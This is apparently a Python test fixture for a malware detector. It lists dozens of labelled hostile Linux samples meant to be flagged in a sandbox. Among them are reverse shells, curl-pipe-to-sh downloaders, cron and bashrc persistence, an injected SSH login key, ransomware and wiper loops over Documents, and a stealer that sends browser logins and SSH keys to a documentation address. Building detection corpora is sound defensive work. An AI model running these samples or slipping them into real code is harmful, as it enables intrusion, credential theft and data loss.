"""Scripts and programs for Linux that act badly, harmless outside of a guest."""

from __future__ import annotations

from tools.corpus.detections.case import Case
from tools.corpus.detections.linux import linux
from tools.corpus.detections.node_cases import NODE_BAD

GVISOR_BAD: tuple[Case, ...] = (
    linux(
        "named-bot.pl",
        "perl",
        "use IO::Socket::INET; $0 = '[kworker/0:1]';\n"
        "my $s = IO::Socket::INET->new(PeerAddr => 'irc.example', PeerPort => 6667) or exit;\n"
        'print $s "NICK a\\r\\n";\n',
        "disguised-on-network",
    ),
    linux(
        "chat-bot.py",
        "python",
        "import socket\ns = socket.create_connection(('chat.example', 6697), 5)\n"
        "s.sendall(b'PASS x\\r\\nNICK a17\\r\\nUSER a 0 * :a\\r\\n')\n"
        "while line := s.recv(400):\n    if line.startswith(b'PRIVMSG'):\n        break\n",
        "joins-chat",
    ),
    linux(
        "pool.pl",
        "perl",
        "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new('pool.example:3333') or exit;\n"
        'print $s qq({"id":1,"method":"mining.subscribe","params":["m/1"]}\\n);\n'
        "my $work = <$s>;\n",
        "mines-coins-for-pool",
    ),
    linux(
        "unnamed-memory.py",
        "python",
        "import os\nf = os.memfd_create('')\nos.write(f, b'#!/bin/sh\\nexit 0\\n')\n"
        "os.set_inheritable(f, True)\nos.execv(f'/proc/self/fd/{f}', ['x'])\n",
        "runs-from-memory",
    ),
    linux(
        "keys-by-names.py",
        "python",
        "import glob, os, socket\nfor path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
        "    text = open(path, 'rb').read().hex()\n"
        "    for at in range(0, min(len(text), 480), 48):\n"
        "        try:\n            socket.gethostbyname(text[at:at + 48] + f'.{at}.out.example')\n"
        "        except OSError:\n            pass\n",
        "tells-credentials-by-names",
    ),
    linux(
        "dropper.sh",
        "sh",
        "#!/bin/sh\nprintf '#!/bin/sh\\necho x\\n' > /tmp/payload\nchmod +x /tmp/payload\n"
        "/tmp/payload\ncurl -s http://203.0.113.5/report\n",
        "drop-and-connect",
    ),
    linux(
        "plain-drop.sh",
        "sh",
        '#!/bin/sh\necho "stage two" > dropped.txt\nwget -q http://203.0.113.7/x || true\n',
        "writes-and-connects-to-bare-address",
    ),
    linux(
        "reverse.sh",
        "sh",
        "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
        "shell-opens-connection",
    ),
    linux(
        "pipe.sh",
        "sh",
        "#!/bin/sh\nh=203.0; h=$h.113.9\ncurl -fsSL http://$h/i | sh\n",
        "download-piped-to-interpreter",
    ),
    linux(
        "loader.sh",
        "sh",
        "#!/bin/sh\ncd /tmp || exit\nwget http://cdn.example/bot -O .b; chmod 777 .b; ./.b\n",
        "download-made-executable",
    ),
    linux(
        "encoded.sh",
        "sh",
        "#!/bin/bash\necho ZWNobyBoaSA+IC90bXAvLngK | base64 -d | bash\n",
        "decode-and-run",
    ),
    linux(
        "cron.sh",
        "sh",
        '#!/bin/sh\n(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.5/c|sh")'
        " | crontab -\n",
        "schedules-suspect-job",
    ),
    linux(
        "key.sh",
        "sh",
        "mkdir -p ~/.ssh\necho 'ssh-ed25519 AAAAC3Nz attacker' >> ~/.ssh/authorized_keys\n",
        "adds-login-key",
    ),
    linux(
        "ransom.sh",
        "sh",
        "#!/bin/bash\nfind ~/Documents -type f | while read -r f; do\n"
        'openssl enc -aes-256-cbc -pbkdf2 -k p -in "$f" -out "$f.locked" && rm -f "$f"\ndone\n'
        "echo pay > ~/Desktop/README.txt\n",
        "rewrites-documents",
    ),
    linux("bomb.sh", "sh", "#!/bin/bash\nb() { b | b & }; b; sleep 4\n", "too-many-processes"),
    linux(
        "blind.sh",
        "sh",
        "#!/bin/sh\nsystemctl stop auditd\niptables -F\nrm -f ~/.bash_history\n",
        "disables-defences",
    ),
    linux(
        "bashrc.sh",
        "sh",
        "echo 'nohup /tmp/.cache/upd >/dev/null 2>&1 &' >> ~/.bashrc\n",
        "changes-shell-profile-to-run",
    ),
    linux(
        "miner.sh",
        "sh",
        "#!/bin/sh\nmkdir -p /tmp/.m; cp /bin/true /tmp/.m/xmrig\n"
        "/tmp/.m/xmrig -o stratum+tcp://pool.example:3333 -u wallet\n",
        "mines",
    ),
    linux(
        "shadow.sh", "sh", "#!/bin/sh\ncat /etc/shadow > /tmp/s; exit 0\n", "reads-account-hashes"
    ),
    linux(
        "stealer.py",
        "python",
        "import glob, os, socket\n"
        "data = b''.join(open(p, 'rb').read() for p in\n"
        "    glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json'))\n"
        "    + [os.path.expanduser('~/.ssh/id_rsa')])\n"
        "s = socket.socket()\n"
        "try:\n    s.connect(('203.0.113.20', 443)); s.sendall(data)\nexcept OSError:\n    pass\n",
        "sends-credentials",
    ),
    linux(
        "ransom.py",
        "python",
        "import os\nfor d, _, fs in os.walk(os.path.expanduser('~/Documents')):\n"
        "    for f in fs:\n        p = os.path.join(d, f)\n"
        "        b = bytes(x ^ 90 for x in open(p, 'rb').read())\n"
        "        open(p, 'wb').write(b); os.rename(p, p + '.crypt')\n",
        "rewrites-documents",
    ),
    linux(
        "shell.py",
        "python",
        "import base64\nexec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcwpzPXNvY2tldC5zb2NrZXQoKQp0cnk"
        "6CiBzLmNvbm5lY3QoKCIyMDMuMC4xMTMuNSIsOTAwMSkpCmV4Y2VwdCBPU0Vycm9yOgogcGFzcwo='))\n",
        "connects-to-odd-port",
    ),
    linux(
        "bind.py",
        "python",
        "import os, socket\ns = socket.socket(); s.bind(('127.0.0.1', 9999)); s.listen()\n"
        "c = socket.create_connection(('127.0.0.1', 9999)); p, _ = s.accept()\n"
        "for d in (0, 1, 2):\n    os.dup2(p.fileno(), d)\n"
        "os.execv('/bin/sh', ['sh', '-c', 'id'])\n",
        "reverse-shell",
    ),
    linux(
        "memory.py",
        "python",
        "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\n"
        "os.execv(f'/proc/self/fd/{fd}', ['kworker'])\n",
        "runs-from-memory",
    ),
    linux(
        "dropper.pl",
        "perl",
        "use IO::Socket::INET;\nopen(my $f, '>', '/var/tmp/.svc') or die;\nprint $f \"x\";\n"
        "close $f; chmod 0755, '/var/tmp/.svc';\n"
        "IO::Socket::INET->new(PeerAddr => '203.0.113.8:6667', Timeout => 1);\n",
        "executable-and-connects",
    ),
    linux(
        "killer.pl",
        "perl",
        "#!/usr/bin/perl\nuse strict;\nmy $pid = fork;\nif (!$pid) { sleep 5; exit }\n"
        "$SIG{TERM} = 'IGNORE';\nkill 'TERM', -1;\nexit 0;\n",
        "kills-everything",
    ),
    linux(
        "autostart.pl",
        "perl",
        'my $d = "$ENV{HOME}/.config/autostart"; mkdir $d;\nopen(my $f, \'>\', "$d/u.desktop");\n'
        'print $f "[Desktop Entry]\\nExec=/tmp/.u/agent &\\n";\n',
        "starts-suspect-with-session",
    ),
    linux(
        "suid.pl",
        "perl",
        "use File::Copy;\ncopy('/bin/sh', '/tmp/rootsh');\nchmod 04755, '/tmp/rootsh';\n",
        "sets-identity-bit",
    ),
    linux(
        "implant",
        "elf",
        "#include <stdio.h>\n#include <string.h>\n#include <unistd.h>\n#include <sys/stat.h>\n"
        "#include <arpa/inet.h>\n#include <sys/socket.h>\nint main(void) {\n"
        ' FILE *f = fopen("/tmp/.lock", "w"); fputs("x", f); fclose(f);\n'
        " struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(80);\n"
        ' inet_pton(AF_INET, "203.0.113.44", &a.sin_addr);\n'
        " int s = socket(AF_INET, SOCK_STREAM, 0);\n"
        " connect(s, (struct sockaddr *)&a, sizeof a); return 0; }\n",
        "drop-and-connect",
    ),
    linux(
        "wiper",
        "elf",
        "#include <dirent.h>\n#include <stdio.h>\n#include <unistd.h>\nint main(void) {\n"
        ' chdir("/home/user/Documents"); DIR *d = opendir("."); struct dirent *e;\n'
        " while ((e = readdir(d))) unlink(e->d_name); return 0; }\n",
        "rewrites-documents",
    ),
    linux(
        "injector",
        "elf",
        "#include <sys/ptrace.h>\n#include <unistd.h>\n#include <signal.h>\nint main(void) {\n"
        " pid_t p = fork(); if (!p) { pause(); return 0; }\n"
        " ptrace(PTRACE_ATTACH, p, 0, 0); kill(p, SIGKILL); return 0; }\n",
        "manipulates-process",
    ),
    linux(
        "backdoor",
        "elf",
        "#include <arpa/inet.h>\n#include <unistd.h>\n#include <sys/socket.h>\nint main(void) {\n"
        " struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(4444);\n"
        ' inet_pton(AF_INET, "203.0.113.66", &a.sin_addr);\n'
        " int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, (void *)&a, sizeof a);\n"
        ' dup2(s, 0); dup2(s, 1); dup2(s, 2); execl("/bin/sh", "sh", "-c", "true", (char *)0); }\n',
        "reverse-shell",
    ),
    linux(
        "folder-with-hashes.py",
        "python",
        "import os, urllib.request\nkept = b''\nfor name in os.listdir('/etc'):\n    try:\n"
        "        kept += open('/etc/' + name, 'rb').read()[:2000]\n"
        "    except OSError:\n        pass\n"
        "urllib.request.urlopen('http://collect.example/etc', data=kept)\n",
        "sends-account-hashes",
    ),
    *NODE_BAD,
)
"""Each must be malicious."""
